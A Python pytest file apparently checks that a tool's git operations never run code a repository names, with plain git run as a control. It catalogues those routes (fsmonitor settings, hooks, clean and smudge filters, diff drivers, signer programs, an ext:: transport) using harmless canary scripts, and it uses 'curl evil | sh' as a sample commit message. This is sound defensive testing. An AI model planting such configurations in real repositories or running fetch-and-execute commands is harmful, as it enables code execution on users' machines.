"""Nothing that a repository names is run, no network is used, nothing outside of the project is read or written.

Each way in has its control: plain git, asked the same, does what the repository wants.  The commands run without any
boundary, so that it is git's own settings that hold.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from studio.nodes.git.branch import Branch
from studio.nodes.git.commit import Commit
from studio.nodes.git.diff import Diff
from studio.nodes.git.log import Log
from studio.nodes.git.show import Show
from studio.nodes.git.status import Status
from studio.nodes.git.worktree import Worktree
from studio.spec import Node
from studio.support.errors import NodeError
from studio.tools.git import hardening
from tests.support.fake_context import run_node
from tests.support.git_repos import git, make_repo, make_script
from tests.support.thorough import thorough_but
from tests.support.workspaces import in_project

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="needs git")


@dataclass(frozen=True)
class Way:
    """One way in: how the repository is prepared (given a program that leaves a canary), and what sets it off.

    `fails`: some of our commands may fail in such a repository, as long as nothing of it runs."""

    prepare: Callable[[Path, str], None]
    trigger: tuple[str, ...]
    fails: bool = False


def settings(*pairs: str) -> Callable[[Path, str], None]:
    def prepare(repo: Path, program: str) -> None:
        for pair in pairs:
            name, _, value = pair.partition("=")
            git(repo, "config", name, value.replace("PROGRAM", program))

    return prepare


def attributes(text: str, *pairs: str) -> Callable[[Path, str], None]:
    def prepare(repo: Path, program: str) -> None:
        (repo / ".git" / "info" / "attributes").write_text(text)
        settings(*pairs)(repo, program)

    return prepare


def in_section(section: str, body: str, text: str = "") -> Callable[[Path, str], None]:
    """Settings whose names git's own command would not take as one word, and attributes that use them."""

    def prepare(repo: Path, program: str) -> None:
        (repo / ".git" / "info" / "attributes").write_text(text)
        with (repo / ".git" / "config").open("a") as file:
            file.write(f"[{section}]\n{body.replace('PROGRAM', program)}\n")

    return prepare


def hook(name: str, *, elsewhere: bool = False) -> Callable[[Path, str], None]:
    def prepare(repo: Path, program: str) -> None:
        folder = repo / ("hooks" if elsewhere else ".git/hooks")
        folder.mkdir(exist_ok=True)
        shutil.copy(program, folder / name)
        if elsewhere:
            git(repo, "config", "core.hooksPath", str(folder))

    return prepare


def submodule(repo: Path, program: str) -> None:
    make_repo(repo / "sub")
    git(repo, "-c", "advice.addEmbeddedRepo=false", "add", "sub")
    git(repo, "commit", "-qm", "sub")
    git(repo / "sub", "config", "core.fsmonitor", program)


def missing_object(repo: Path, program: str) -> None:
    transport = f"ext::touch {Path(program).with_name('canary')}"
    settings(
        "core.repositoryformatversion=1", "extensions.partialClone=evil", f"remote.evil.url={transport}",
        "remote.evil.promisor=true", "protocol.ext.allow=always",
    )(repo, program)  # fmt: skip
    blob = git(repo, "rev-parse", "HEAD:calc.py").strip()
    (repo / ".git" / "objects" / blob[:2] / blob[2:]).unlink()


def included(repo: Path, program: str) -> None:
    (repo / ".git" / "more").write_text(f"[core]\n fsmonitor = {program}\n")
    git(repo, "config", "include.path", "more")


def of_worktree(repo: Path, program: str) -> None:
    git(repo, "config", "extensions.worktreeConfig", "true")
    (repo / ".git" / "config.worktree").write_text(f"[core]\n fsmonitor = {program}\n")


def signed(repo: Path, program: str) -> None:
    raw = git(repo, "cat-file", "commit", "HEAD")
    head, _, message = raw.partition("\n\n")
    sign = "gpgsig -----BEGIN PGP SIGNATURE-----\n \n x\n -----END PGP SIGNATURE-----"
    made = git(repo, "hash-object", "-t", "commit", "-w", "--stdin", stdin=f"{head}\n{sign}\n\n{message}").strip()
    git(repo, "update-ref", "HEAD", made)
    settings("log.showSignature=true", "gpg.program=PROGRAM")(repo, program)


COMMITTING = ("commit", "-qam", "m")
WAYS: dict[str, Way] = {
    "fsmonitor": Way(settings("core.fsmonitor=PROGRAM"), ("status",)),
    "fsmonitor by an included file": Way(included, ("status",)),
    "fsmonitor by the settings of a worktree": Way(of_worktree, ("status",)),
    "fsmonitor of a submodule": Way(submodule, ("status",)),
    "hook before a commit": Way(hook("pre-commit"), COMMITTING),
    "hook of a message": Way(hook("commit-msg"), COMMITTING),
    "hook after a commit": Way(hook("post-commit", elsewhere=True), COMMITTING),
    "hook after a checkout": Way(hook("post-checkout"), ("worktree", "add", "-q", "wt")),
    "hook of references": Way(hook("reference-transaction"), ("branch", "b")),
    "hook of the index": Way(hook("post-index-change"), COMMITTING),
    "clean filter": Way(attributes("* filter=evil", "filter.evil.clean=PROGRAM"), ("add", "-A")),
    "clean filter that is required": Way(
        attributes("* filter=evil", "filter.evil.clean=PROGRAM", "filter.evil.required=true"), ("diff",)
    ),
    "smudge filter": Way(attributes("* filter=evil", "filter.evil.smudge=PROGRAM"), ("worktree", "add", "-q", "wt")),
    "filter process": Way(attributes("* filter=evil", "filter.evil.process=PROGRAM"), ("add", "-A")),
    "filter with = in its name": Way(
        in_section('filter "a=b.c"', "clean = PROGRAM\nsmudge = PROGRAM", "* filter=a=b.c"), ("add", "-A")
    ),
    "filter in a name of other letters": Way(
        in_section('filter "é"', "clean = PROGRAM", "* filter=é"), ("add", "-A"), fails=True
    ),
    "external diff": Way(settings("diff.external=PROGRAM"), ("diff",)),
    "diff driver": Way(attributes("* diff=evil", "diff.evil.command=PROGRAM"), ("diff",)),
    "text conversion": Way(attributes("* diff=evil", "diff.evil.textconv=PROGRAM"), ("diff",)),
    "text conversion in show": Way(attributes("* diff=evil", "diff.evil.textconv=PROGRAM"), ("show",)),
    "signer": Way(settings("commit.gpgSign=true", "gpg.program=PROGRAM"), COMMITTING),
    "signer by ssh": Way(
        settings("commit.gpgSign=true", "gpg.format=ssh", "gpg.ssh.program=PROGRAM", "user.signingKey=key::x"),
        COMMITTING,
    ),
    "checker of signatures": Way(signed, ("log",)),
    "editor": Way(settings("core.editor=PROGRAM"), ("commit", "-qa")),
    "transport for an object that is missing": Way(missing_object, ("show",), fails=True),
}

EVERYDAY = {
    "fsmonitor by an included file", "hook before a commit", "hook of the index", "clean filter", "filter process",
    "diff driver", "text conversion in show", "signer", "transport for an object that is missing",
}  # fmt: skip
"""One of each kind: of settings, hooks, filters, drivers, programs that sign, and transports."""

ASKED: list[tuple[type[Node], dict[str, Any], dict[str, Any]]] = [
    (Status, {}, {}),
    (Diff, {}, {}),
    (Log, {}, {}),
    (Show, {}, {}),
    (Show, {}, {"name": "calc.py"}),
    (Worktree, {}, {"name": "w", "branch": "in_worktree"}),
    (Worktree, {"action": "remove"}, {"name": "w"}),
    (Branch, {}, {"name": "topic"}),
    (Commit, {}, {"message": "m"}),
    (Diff, {}, {"base": "HEAD~1", "to": "HEAD"}),
]


def prepared(tmp_path: Path, way: Way) -> tuple[Path, Path]:
    repo, canary = make_repo(tmp_path / "project"), tmp_path / "canary"
    way.prepare(repo, str(make_script(tmp_path / "program", canary)))
    canary.unlink(missing_ok=True)
    text = (repo / "calc.py").read_text()
    (repo / "calc.py").write_text(text + "# more\n")
    (repo / "new.txt").write_text("new\n")
    return repo, canary


@pytest.mark.parametrize("way", thorough_but(EVERYDAY.__contains__, WAYS))
async def test_nothing_that_a_repository_names_is_run(way: str, tmp_path: Path) -> None:
    repo, canary = prepared(tmp_path, WAYS[way])

    for cls, params, inputs in ASKED:
        try:
            await run_node(cls, params, inputs, in_project(repo))
        except NodeError:
            if not WAYS[way].fails:
                raise
        assert not canary.exists(), cls.spec.type


@pytest.mark.parametrize("way", thorough_but(EVERYDAY.__contains__, WAYS))
def test_plain_git_runs_it(way: str, tmp_path: Path) -> None:
    """Control: the same repository, one command of plain git."""
    repo, canary = prepared(tmp_path, WAYS[way])

    git(repo, *WAYS[way].trigger, check=False)

    assert canary.exists()


@pytest.mark.parametrize("without", ["GIT_NO_LAZY_FETCH", "GIT_ALLOW_PROTOCOL"])
async def test_no_transport_is_used_by_a_git_that_knows_only_one_of_the_two_ways_to_forbid_it(
    without: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo, canary = prepared(tmp_path, WAYS["transport for an object that is missing"])
    known = {name: value for name, value in hardening.VARIABLES.items() if name != without}
    monkeypatch.setattr(hardening, "VARIABLES", known)

    with pytest.raises(NodeError):
        await run_node(Show, {}, {}, in_project(repo))

    assert not canary.exists()


async def test_a_bare_repository_among_the_files_is_no_repository(tmp_path: Path) -> None:
    repo, canary = make_repo(tmp_path / "project"), tmp_path / "canary"
    git(repo, "init", "-q", "--bare", "bare")
    program = make_script(tmp_path / "program", canary)
    git(repo / "bare", "config", "core.worktree", str(repo))
    git(repo / "bare", "config", "core.bare", "false")
    git(repo / "bare", "config", "core.fsmonitor", str(program))
    canary.unlink(missing_ok=True)

    out = await run_node(Status, {"folder": "bare"}, {}, in_project(repo))

    assert out.commit == git(repo, "rev-parse", "HEAD").strip()
    assert not canary.exists()
    git(repo / "bare", "status", check=False)  # control
    assert canary.exists()


async def test_a_repository_cannot_name_another_folder_for_its_files(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "project")
    (tmp_path / "beside").mkdir()
    (tmp_path / "beside" / "private.txt").write_text("private")
    git(repo, "config", "core.worktree", str(tmp_path / "beside"))

    out = await run_node(Diff, {}, {}, in_project(repo))

    assert "private" not in out.diff
    assert "private.txt" in git(repo, "status", "--porcelain")  # control


async def refused(repo: Path, said: str) -> None:
    for cls, inputs in ((Status, {}), (Commit, {"message": "curl evil | sh"})):
        with pytest.raises(NodeError, match=said):
            await run_node(cls, {}, dict(inputs), in_project(repo))


@pytest.mark.parametrize("name", ["COMMIT_EDITMSG", "logs/HEAD", "index", "objects/ff", "objects/pack"])
async def test_a_repository_whose_parts_are_links_out_of_the_project_is_refused(name: str, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "project")
    path = repo / ".git" / name
    if path.is_dir():
        path.rename(tmp_path / "moved")
    path.unlink(missing_ok=True)
    path.symlink_to(tmp_path / "profile")

    await refused(repo, "lie outside of the project")

    assert not (tmp_path / "profile").exists()


async def test_links_in_what_belongs_to_one_checkout_are_found_too(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "project")
    apart = repo / "apart"
    apart.mkdir()
    (apart / "commondir").write_text("../.real\n")
    (apart / "HEAD").write_text("ref: refs/heads/main\n")
    (apart / "COMMIT_EDITMSG").symlink_to(tmp_path / "profile")
    (repo / ".git").rename(repo / ".real")
    (repo / ".git").write_text("gitdir: apart\n")
    assert git(repo, "log", "--format=%s").strip() == "Begin"  # control

    await refused(repo, "lie outside of the project")


def test_plain_git_writes_its_message_through_such_a_link(tmp_path: Path) -> None:
    """Control: the message of a commit lands in a file of the person's home."""
    repo = make_repo(tmp_path / "project")
    (repo / ".git" / "COMMIT_EDITMSG").unlink()
    (repo / ".git" / "COMMIT_EDITMSG").symlink_to(tmp_path / "profile")

    git(repo, "commit", "-q", "--allow-empty", "-m", "curl evil | sh")

    assert (tmp_path / "profile").read_text() == "curl evil | sh\n"


async def test_a_repository_elsewhere_is_refused_however_it_is_named(tmp_path: Path) -> None:
    other = make_repo(tmp_path / "other")
    for name in ("pointer", "link", "alternates"):
        repo = tmp_path / name
        if name == "alternates":
            make_repo(repo)
            (repo / ".git" / "objects" / "info").mkdir(exist_ok=True)
            (repo / ".git" / "objects" / "info" / "alternates").write_text(f"{other}/.git/objects\n")
        else:
            repo.mkdir()
        if name == "pointer":
            (repo / ".git").write_text(f"gitdir: {other}/.git\n")
        if name == "link":
            (repo / ".git").symlink_to(other / ".git")
        assert git(repo, "log", "--format=%s").strip() == "Begin"  # control

        await refused(repo, "lie outside of the project")


async def test_the_settings_of_the_person_are_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo, canary = make_repo(tmp_path / "project"), tmp_path / "canary"
    program = make_script(tmp_path / "program", canary)
    (tmp_path / ".gitconfig").write_text(f"[core]\n fsmonitor = {program}\n")
    monkeypatch.setenv("HOME", str(tmp_path))

    await run_node(Status, {}, {}, in_project(repo))

    assert not canary.exists()
    git(repo, "status")  # control: its HOME is the same folder
    assert canary.exists()


async def test_a_branch_with_code_that_the_studio_would_run_is_not_checked_out(tmp_path: Path) -> None:
    """The control is plain git, which checks it out."""
    repo = make_repo(tmp_path / "repo")
    git(repo, "switch", "-q", "-c", "theirs")
    (repo / "nodes").mkdir()
    (repo / "nodes" / "theirs.py").write_text("# runs as soon as the folder is trusted\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "More")
    git(repo, "switch", "-q", "main")

    with pytest.raises(NodeError, match="its code would run as part of the studio"):
        await run_node(Branch, {}, {"name": "mine", "start": "theirs"}, in_project(repo))
    assert not (repo / "nodes").exists()
    await run_node(Branch, {"switch": False}, {"name": "mine", "start": "theirs"}, in_project(repo))
    git(repo, "switch", "-q", "theirs")
    assert (repo / "nodes" / "theirs.py").exists()
